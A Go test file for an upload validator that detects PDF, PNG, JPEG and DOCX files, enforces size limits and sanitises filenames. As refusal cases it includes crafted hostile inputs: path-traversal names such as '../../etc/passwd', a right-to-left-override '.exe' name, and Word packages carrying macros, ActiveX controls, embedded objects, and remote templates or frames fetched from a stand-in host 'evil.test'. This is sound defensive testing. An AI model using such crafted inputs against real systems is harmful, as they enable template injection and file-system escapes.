package files

import (
	"archive/zip"
	"bytes"
	"strings"
	"testing"
	"unicode/utf8"

	"pgregory.net/rapid"

	"sharewell/internal/errs"
)

func zipped(t testing.TB, names ...string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, n := range names {
		w, err := z.Create(n)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte("<x/>")); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

var (
	somePDF = []byte("%PDF-1.7\nbody\n%%EOF\n")
	somePNG = []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR....")
)

func TestCheck(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		as      string
		content []byte
		want    string // type; "" means refused
		kept    string
	}{
		"pdf":            {"scan.pdf", somePDF, PDF, "scan.pdf"},
		"pdf, cut short": {"scan.pdf", []byte("%PDF-1.7\n"), "", ""},
		"png":            {"C:\\Users\\me\\My Scan.PNG", somePNG, PNG, "My Scan.png"},
		"png named pdf":  {"scan.pdf", somePNG, PNG, "scan.png"},
		"jpeg":           {"photo.jpeg", []byte{0xff, 0xd8, 0xff, 0xe0}, JPEG, "photo.jpeg"},
		"word":           {"signed.docx", zipped(t, "[Content_Types].xml", "word/document.xml"), DOCX, "signed.docx"},
		"word, macros":   {"signed.docx", zipped(t, "[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"), "", ""},
		"word, climbing": {"signed.docx", zipped(t, "[Content_Types].xml", "word/document.xml", "../x"), "", ""},
		"zip":            {"signed.docx", zipped(t, "a.txt"), "", ""},
		"html":           {"scan.pdf", []byte("<html><script>"), "", ""},
		"svg":            {"a.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg">`), "", ""},
		"program":        {"a.pdf", []byte("MZ\x90"), "", ""},
		"empty":          {"a.pdf", nil, "", ""},
		"climbing name":  {"../../etc/passwd", somePDF, PDF, "passwd.pdf"},
		"hidden turn":    {"a\u202efdp.exe", somePDF, PDF, "afdp.pdf"},
		"no name":        {"", somePDF, PDF, "file.pdf"},
	} {
		m, err := Check(c.as, c.content, 1<<20)
		if (err == nil) != (c.want != "") || m.Type != c.want || m.Name != c.kept {
			t.Errorf("%s: %+v, %v", name, m, err)
		}
		if err != nil && errs.KindOf(err) != errs.Invalid {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// TestDocumentsThatRunThingsAreRefused: a Word file that brings programs along, or fetches them, is no scan.
func TestDocumentsThatRunThingsAreRefused(t *testing.T) {
	t.Parallel()
	document := func(more ...string) []byte {
		var b bytes.Buffer
		z := zip.NewWriter(&b)
		parts := append([]string{"[Content_Types].xml", "<Types/>", "word/document.xml", "<w/>"}, more...)
		for i := 0; i < len(parts); i += 2 {
			w, err := z.Create(parts[i])
			if err != nil {
				t.Fatal(err)
			}
			if _, err := w.Write([]byte(parts[i+1])); err != nil {
				t.Fatal(err)
			}
		}
		if err := z.Close(); err != nil {
			t.Fatal(err)
		}
		return b.Bytes()
	}
	if _, err := Check("fine.docx", document("word/media/image1.png", "x"), 1<<20); err != nil {
		t.Errorf("a plain document: %v", err)
	}
	own := document("word/_rels/settings.xml.rels", `<Relationship Type=".../attachedTemplate" Target="file:///C:\Letters.dotx" TargetMode="External"/>`,
		"word/_rels/document.xml.rels", `<Relationship Type=".../hyperlink" Target="https://example.org/" TargetMode="External"/>`)
	if _, err := Check("fine.docx", own, 1<<20); err != nil {
		t.Errorf("a template of one's own and a link: %v", err)
	}
	for name, b := range map[string][]byte{
		"template on a share": document("word/_rels/settings.xml.rels", `<Relationship Type=".../attachedTemplate" Target="file://///evil.test/x.dotm" TargetMode="External"/>`),
		"control":             document("word/activeX/activeX1.xml", "<x/>"),
		"embedded":            document("word/embeddings/oleObject1.bin", "x"),
		"macros":              document("word/VBAData.xml", "<x/>"),
		"second types":        document("[Content_Types].xml", "<Types/>"),
		"macro type":          document("customXml/x.xml", "<x/>", "word/_rels/document.xml.rels", `<Relationship Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="x.bin"/>`),
		"remote template":     document("word/_rels/settings.xml.rels", `<Relationship Type=".../attachedTemplate" Target="https://evil.test/x.dotm" TargetMode="External"/>`),
		"remote frame":        document("word/_rels/webSettings.xml.rels", `<Relationship Type=".../frame" Target="https://evil.test" TargetMode="External"/>`),
		"folder elsewhere":    document("word/../../x", "x"),
	} {
		if _, err := Check("a.docx", b, 1<<20); errs.CodeOf(err) != "files.type" {
			t.Errorf("%s: %v, want files.type", name, err)
		}
	}
}

func TestCheckLimit(t *testing.T) {
	t.Parallel()
	if _, err := Check("a.pdf", somePDF, int64(len(somePDF))); err != nil {
		t.Errorf("exactly the limit: %v", err)
	}
	_, err := Check("a.pdf", append(bytes.Repeat([]byte("x"), 20<<20), 'x'), 20<<20)
	if err == nil || !strings.Contains(err.Error(), "20 MB") {
		t.Errorf("over the limit: %v", err)
	}
}

func TestNamesAreAlwaysSafe(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(t *rapid.T) {
		name := safeName(rapid.String().Draw(t, "name"), PDF)
		if !strings.HasSuffix(name, ".pdf") || strings.ContainsAny(name, "\"/\\<>\r\n;") || len(name) > longestName+5 || !utf8.ValidString(name) {
			t.Fatalf("name %q", name)
		}
	})
}

func FuzzCheck(f *testing.F) {
	f.Add("a.pdf", somePDF)
	f.Add("a.png", somePNG)
	f.Add("a.docx", zipped(f, "[Content_Types].xml", "word/document.xml"))
	f.Fuzz(func(t *testing.T, name string, content []byte) {
		m, err := Check(name, content, 1<<16)
		if err == nil && (m.Size != int64(len(content)) || len(m.SHA256) != 64 || m.Name == "") {
			t.Errorf("%+v", m)
		}
	})
}
